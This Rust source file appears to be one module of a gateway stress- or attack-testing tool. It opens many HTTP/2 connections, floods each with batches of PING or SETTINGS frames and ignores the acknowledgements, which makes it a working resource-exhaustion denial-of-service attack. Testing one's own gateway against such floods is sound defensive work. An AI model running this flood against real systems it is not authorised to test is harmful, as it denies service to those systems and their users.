//! HTTP/2 frames that require an acknowledgement: pings and settings, as fast as the gateway accepts them.

use crate::Aim;
use crate::attack::{Attack, Class};
use crate::http2::{Http2, frame, kind};

/// Frames per write.
const AT_ONCE: usize = 100;

/// The attack.
pub(super) const ATTACK: Attack = Attack::new(
    Class::Client,
    "HTTP/2, pings and settings",
    "connections that send pings and settings, and no request",
    |aim| Box::pin(run(aim)),
);

async fn run(aim: Aim) {
    let client = async |aim: Aim, number: u64| {
        let mut http2 = Http2::connect(&aim, &[]).await?;
        let frame_bytes = match number % 2 {
            0 => frame(kind::PING, 0, 0, &[7; 8]),
            _ => frame(kind::SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]),
        };
        let bytes = frame_bytes.repeat(AT_ONCE);
        let mut round = 0;
        while aim.goes_on(round) {
            // Acknowledgements are not read.
            http2.send(&bytes).await?;
            tokio::task::yield_now().await;
            round += 1;
        }
        Ok(())
    };
    aim.crowd(client).await;
}
